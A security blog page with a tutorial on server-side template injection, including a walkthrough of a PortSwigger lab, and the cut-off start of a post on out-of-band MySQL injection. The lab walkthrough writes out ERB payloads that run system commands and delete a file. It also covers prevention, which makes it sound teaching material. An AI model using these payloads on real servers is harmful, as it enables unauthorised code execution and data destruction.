Saturday 17 February 2024

Introduction to Server Side Template Injection

Introduction to Server Side Template Injection

Welcome back to our cybersecurity journey. If you have been following our SQL Injection series, you are in for another exciting exploration today. We are diving into the world of Server-Side Template Injection (SSTI). Buckle up, and let’s jump in together.

Anyway, you can find our SQL Injection series and other interesting articles here.

Fundamentals of Template Engines and Templates

Firstly, it’s crucial to have understanding on template engines and templates.

What is template engines and templates?*

In web development, template engines are utilised to process templates, which are HTML files containing placeholders for dynamic content. These engines combine templates with data to produce fully rendered web pages. This separation of logic and presentation facilitates code reuse, ensures consistency, and improves scalability in web applications.

Basic Components of Templates

Templates consist of basic components that facilitate the insertion of dynamic content. These components include:

a. Variables
Variables serve as placeholders that are replaced with actual values during rendering. For instance, in the template below, variable {{ username }} might be rendered as John.<h1>Hello, {{ username }}!</h1>

b. Expressions
Expressions allow for dynamic computation or manipulation of data. These expressions can include arithmetic operations, string concatenation, function calls and more. For instance, in the template below, expression {{ 2 + 2 }} would evaluate to 4.

<p>The result of 2 + 2 is: {{ 2 + 2 }}</p>

c. Control Structures
Control structures enable conditional logic and iteration within templates. These structure include if statements, loops, and iterators, allowing developers to control the flow of content generation based on certain conditions.

{% if user.is_authenticated %}
    <h1>Hello, {{ user.username }}!</h1>
{% else %}
    <p>You are not a user, please sign up.</p>
{% endif %}

Overview of Common Template Engines

Next, let’s familiarise ourselves with some common template engines and their syntax differences.

a. Jinja2
Jinja2 is a popular templating engine for Python web development, inspired by Django. It offers a high level of flexibility and is widely used in frameworks like Flask and Django itself.

{% for item in items %}
    <li>{{ item }}</li>
{% endfor %}

b. Handlebars
Handlebars is a logic-less templating engine for JavaScript, designed to build expressive templates efficiently. It’s commonly used in modern frameworks like Ember.js and Backbone.js.

{{#each items}}
    <li>{{ this }}</li>

c. ERB (Embedded Ruby)
ERB is a templating system for Ruby that embeds Ruby code into a text document. It’s commonly used in Ruby on Rails applications for generating dynamic HTML content.

<% items.each do |item| %>
    <li><%= item %></li><% end %>

d. Smarty
Smarty is a template engine for PHP, designed to separate application logic from presentation logic. It provides a wide range of features for building dynamic web applications with PHP.

{foreach $items as $item}

It is worth noting that the above just some of the examples. There are many other template engines, such as Twig, Freemarker, and Mustache. Each of these engines has its own syntax, so it’s recommended to explore the documentation specific to each one.

Server-Side Template Injection

Now, let’s start our journey on the world of SSTI.

What is Server-Side Template Injection?Server-Side Template Injection or SSTI is a specific example of template injection that occurs on the server side. It occurs when an application processes user inputs as templates on the server and evaluates them. If an attacker can inject malicious template expressions into ther server-side processing, they might gain the ability to execute code within the server’s context.

Consider a web application that has a template like below:

<!DOCTYPE html>
<html lang="en">
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <h1>Hello, {{ username }}!</h1>
    <p>Welcome to our website.</p>

The {{ username }} part is the placeholder that will be replaced with a username when the page is rendered. But what if attackers manage to manipulate the variable and inject something like {{ 7*7 }}? The possibilities become fascinating, and that’s where the adventure into SSTI begins.

What is the impact of SSTI?

The impact of SSTI can be severe and wide-ranging, posing significant risks to the security and integrity of web applications.

a. Remote Code Execution
SSTI vulnerabilities allow attackers to remotely execute arbitrary code on the server, leading to running system commands, file manipulation, compromising accounts and potentially gaining full server control.

b. Data Leakage
Even if RCE is not possible,attackers can still leverage SSTI vulnerabilities to access sensitive information like database contents, configuration files and environment variables. This data can be exploited for further attacks.

How does SSTI looks like?

Enough theories, let’s illustrate this with a simple scenario from PortSwigger Academy.

Resources: PortSwigger: SSTI - File Deletion

Exploiting SSTI vulnerability in ERB template to delete file

This lab is vulnerable to Server-Side Template Injection due to the unsafe construction of an ERB template.
To solve the lab, review the ERB documentation to find out how to execute arbitrary code, then delete the morale.txt file from Carlos’s home directory.

After gaining access to the lab, we were greeted with an e-commerce home page featuring various products.

However, upon attempting to view more details about the first product, we encountered a different behavior.A GET request was made, using the message parameter, leading to the display of the message “Unfortunately this product is out of stock” on the home page.

Realising the potential for manipulation, we use Burp Suite Repeater for the interception and modification of request. With this, we could inject payloads into the message parameter to investigate further.

According to ERB documentation, content within an ERB template is treated as HTML, unless specified otherwise using special tags.

This <%= EXPRESSION %> tag is used to evaluate the given expression and directly output the result into the rendered template.

Hence, we utilise this syntax to create an expression containing a mathematical operation to verify if the payload is being executed. For this testing, we used this payload <%= 7*7 %>.

Request URL: https://burp-academy/?message=<%= 7*7 %>

Upon sending the request, we observed the result of our mathematical operation, 49, was displayed on the page. This indicates a potential server-side template injection vulnerability.

Further exploration into the Ruby documentation, we discovered that the system() can be used to execute arbitrary operatingsystem commands.

To confirm our identity within the system, we constructed a payload using system("whoami"). The response confirmed that we were indeed ‘Carlos’, providing valuable insight to achieve the lab’s objective.

Request URL: https://burp-academy/?message=<%= system("whoami") %>Continuing our exploitation, we utilised system("pwd") to determine our current directory, revealing that we were situated in Carlos’s home directory.

Request URL: https://burp-academy/?message=<%= system("pwd") %>

Then, we discovered the presence of a file named ‘morale.txt’ within the directory. This was confirmed by utilising the system("ls") command.

Request URL: https://burp-academy/?message=<%= system("ls") %>

Finally, to achieve the lab’s objective, we executed a payload to delete the ‘morale.txt’ file using system("rm morale.txt").

Request URL: https://burp-academy/?message=<%= system("rm morale.txt") %>

By successfully removing the file, we accomplished the lab’s objective.

How to prevent from SSTI vulnerabilities?Lastly, let’s take a look on how to prevent our applications from SSTI.

a. Access control
A fundamental approach is to restrict access to template files, as open-access templates are easy targets for attackers.

By implementing strict rules that permit only developers and administrators to modify templates, we can reduce the risk of attacks.

b. Input sanitisation
Sanitising inputs is crucial to mitigate SSTI risks. Templates must validate input data, allowing only expected elements. Regular expressions can help to define allowed patterns.

However, input sanitisation has its limits, attackers may find ways to bypass it and potentially exposing vulnerabilities.

c. Sandboxing
Sandboxing offers a stronger defense than input sanitisation by creating a secure, isolated environment with restricted user actions. It prohibits access to risky functions or modules, minimising attack impact.

However, implementing sandboxing is complex, and attackers may exploit misconfigurations or attempt privilege escalation to bypass it.

d. Logic-less templates
A highly secure method involves employing logic-less templates, which separate the process of interpreting code from how it is displayed visually on a webpage.

For example, in Handlebars and Mustache, control flow statements rely on provided data, not executable code which reduces the risk of remote code execution and enhances security.

That concludes the first article in this series. We hope you have gained valuable insights from this post. Stay tuned for the next articles.Thank you.



Tuesday 16 January 2024

Understanding Types of SQL Injection Attacks - Final Part

Understanding Types of SQL Injection Attacks - Final Part

Hey there, happy new year! This will be the final part of the series. Alysha decided to further her study on a different topic, hence this final part was done by our other team member.

The previous posts of the series could be found here:Let’s take a look again at the diagram of SQL Injection techniquesbelow to ensure we can still remember them:

In this final part, we will cover the Out-of-Band (OOB) technique. Similar to the other posts, we would only focus on the MySQL DBMS. We will cover the other DBMSes, probably later in a different post.

What is Out-of-Band?
Out-of-Band (OOB) technique enables us another angle of way to confirm and exploit a ‘blind’ situation vulnerability. Similar to the Time-based technique that we covered in the previous post, OOB technique also is being used when we could not get the output of the vulnerability in the direct response to the vulnerable request. Hence, we could (ab)use the available functions to create an outbound DNS/TCP/UDP/ICMP request which allows the data exfiltration to the remote resource that we have control.

Limitation in OOB SQL Injection technique
There is not much reference of this technique due to the success of the exploitation relies on many factors such as:

  • Firewall rules - outbound request is allowed by the host where the database is running
  • Privilege - most of the functions require privileged permissions. As an example for MySQL, load_file()
  • It only work when the DBMS hosted on a certain Operating System (refer the screenshotbelow)

Preparing the testing environment
To demonstrate the attack, we require to have a vulnerable web application running MySQL on a Windows host. Hence we used the following:Download the Laragon software and install it in the Windows VM machine. We used the Laragon Portable version as we can dispose it later.

Then, grab the source codes of the vulnerable web application and add it into the Root folder of the Laragon.

Next, ensure to set/update the root password for the database as instructed by the web application creator. This can be done by right click on the Laragon interface > MySQL > Change root password.

At the same time, ensure to include the sqltraining.sql content into the database that will be used.

Once the preparation is ready, we can access the web application from our testing machine by enabling the ngrok tunnel. This can be done by right click on the Laragon interface > www > Share. You must ensure to configure the ngrok first in the host to allow the feature. Follow this link for reference.

Testing the OOB SQL Injection
From the front page of the web application, there will be some options for us to pick to test the SQL Injection.

We used the searchproduct.php for this demonstration. The vulnerable field is the “Search” field available on the page.

From the UNION-based technique, we found that the number of columns were 5, hence the following payload should work using that technique:

